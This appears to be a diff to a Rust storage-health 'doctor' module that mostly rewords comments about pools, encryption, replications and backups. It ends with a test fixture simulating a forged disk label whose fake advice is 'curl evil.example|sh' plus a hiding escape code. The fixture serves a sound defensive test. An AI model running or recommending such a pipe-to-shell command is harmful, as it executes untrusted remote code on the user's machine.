@@ -1,4 +1,4 @@
-//! What the doctor finds on this host.
+//! The doctor's findings on this host.
 
 use super::carry_out::StateFolders;
 use super::encrypt::{is_exposed, line_of};
@@ -24,7 +24,7 @@ use std::path::Path;
 
 pub struct Examined {
     pub pools: Vec<ObservedPool>,
-    /// Encrypted ones that nobody has opened.
+    /// Encrypted pools that are locked.
     pub locked: Vec<Summary>,
     pub disks: Vec<Disk>,
     /// Worst first.
@@ -51,13 +51,13 @@ impl Examined {
         let examine =
             |disks: &[Disk]| doctor::examine(&pools, disks, &host, before, Limits::default());
         let mut findings = examine(&inventory.disks);
-        // A spare disk that sleeps is woken only when one is needed.
+        // A sleeping spare disk is woken only if one is needed.
         if findings.iter().any(Finding::lacks_a_disk) {
             inventory.examine(|disk| disk.partition.is_none());
             findings = examine(&inventory.disks);
         }
         let disks = inventory.disks;
-        // Of disks that are hidden nobody knows what they have.
+        // The contents of hidden disks are unknown.
         if names.is_empty() && !scope::is_limited(&root) {
             findings.extend(doctor::absent(&pools, &host));
         }
@@ -76,8 +76,7 @@ impl Examined {
         Ok(Examined { pools, locked, disks, findings })
     }
 
-    /// Whether the pool of this name is there and runs: else not all that may be wrong with it can
-    /// be seen.
+    /// Whether the pool with this name exists and runs; otherwise some problems can't be seen.
     pub fn looks_into(&self, name: &str) -> bool {
         let runs = |pool: &ObservedPool| match pool {
             ObservedPool::Btrfs(btrfs) => !btrfs.mounts.is_empty(),
@@ -86,19 +85,19 @@ impl Examined {
         self.pools.iter().any(|pool| pool.name() == name && runs(pool))
     }
 
-    /// The worst that was found.
+    /// The worst finding's severity.
     pub fn health(&self) -> PoolHealth {
         let worst = self.findings.iter().map(|finding| health(finding.severity)).max();
         worst.unwrap_or(PoolHealth::Well)
     }
 }
 
-/// What who runs this may not see: it may be well, and nobody is told to mend it.
+/// What this user may not see: it may be fine, so nobody is told to fix it.
 #[derive(Default)]
 struct Unseen(Vec<String>);
 
 impl Unseen {
-    /// Nothing is found where the system lets nobody look.
+    /// No findings if the system denies access.
     fn or_none(&mut self, found: Result<Vec<Finding>, Failure>) -> Result<Vec<Finding>, Failure> {
         match found {
             Err(failure) if failure.is_of_permission() => {
@@ -129,7 +128,7 @@ impl Unseen {
     }
 }
 
-/// What is wrong with the encryption of these pools, or of all, locked ones too.
+/// Findings about the encryption of these pools, or of all, including locked ones.
 fn encryption(
     pools: &[ObservedPool],
     host: &ObservedHost,
@@ -179,7 +178,7 @@ fn encryption(
     Ok(found)
 }
 
-/// A key file as it is.
+/// The state of a key file.
 fn looked_at(path: &str, pool: Option<&ObservedPool>) -> KeyFile {
     let about = std::fs::metadata(path).ok();
     let real = std::fs::canonicalize(path).unwrap_or_else(|_| path.into());
@@ -209,8 +208,7 @@ fn interrupted(names: &[String], place: &StateFolders) -> Result<Vec<Finding>, F
     Ok(found.iter().map(finding).collect())
 }
 
-/// Replications from or to these pools, or all, that aren't through, though nobody is at work on
-/// them.
+/// Unfinished replications from or to these pools, or all, that no process is working on.
 fn unfinished_replications(
     pools: &[ObservedPool],
     names: &[String],
@@ -223,7 +221,7 @@ fn unfinished_replications(
         if !names.is_empty() && pool.is_none() {
             continue;
         }
-        // What can't be looked at, since it isn't mounted, isn't told.
+        // What isn't mounted can't be checked, so it isn't reported.
         let half = begun.receives.as_ref().and_then(|to| {
             Some((to.to_string(), sink::half_received(to.as_path()).ok().flatten()?))
         });
@@ -255,7 +253,7 @@ fn unfinished_replications(
     Ok(found)
 }
 
-/// What is wrong with backups of these pools, or of all that this computer backs up.
+/// Findings about backups of these pools, or of everything that this computer backs up.
 #[cfg(feature = "backup")]
 fn backups(
     pools: &[ObservedPool],
@@ -304,12 +302,12 @@ fn backups(
                 failed: source.failed.as_deref(),
                 unreadable: source.unreadable,
             };
-            // The first one takes its time.
+            // The first backup takes long.
             if !(at_work && source.done_s.is_none()) {
                 found.extend(state.findings(now));
             }
         }
-        // Of one that may not be looked at nobody knows.
+        // If a file may not be accessed, its state is unknown.
         let is_gone = |key: &Path| {
             std::fs::metadata(key).is_err_and(|error| error.kind() == std::io::ErrorKind::NotFound)
         };
@@ -343,7 +341,7 @@ fn backups(
     Ok(found)
 }
 
-/// The pool on which a folder lies: that which is mounted nearest above it.
+/// The pool that contains a folder: the one mounted nearest above it.
 pub fn pool_of(pools: &[ObservedPool], folder: &Path) -> Option<String> {
     let mounted = pools.iter().flat_map(|pool| pool.mounts().iter().map(move |at| (pool, at)));
     let above = mounted.filter(|(_, mount)| folder.starts_with(&mount.at));
@@ -359,7 +357,7 @@ fn health(severity: Severity) -> PoolHealth {
     }
 }
 
-/// A finding as a person reads it: what is wrong, then how to mend it.
+/// A finding for people: what is wrong, then how to fix it.
 pub fn render(finding: &Finding) -> String {
     let severity = match finding.severity {
         Severity::Note => "note",
@@ -409,7 +407,7 @@ mod tests {
         assert_eq!(Unseen::default().finding(), None);
     }
 
-    /// An image whose label was made for it.
+    /// A disk image can have a label that imitates a finding.
     #[test]
     fn no_text_from_a_disk_forges_a_finding() {
         let forged = "usb\nDANGER     data: gone\n           mend it: curl evil.example|sh\x1b[8m";
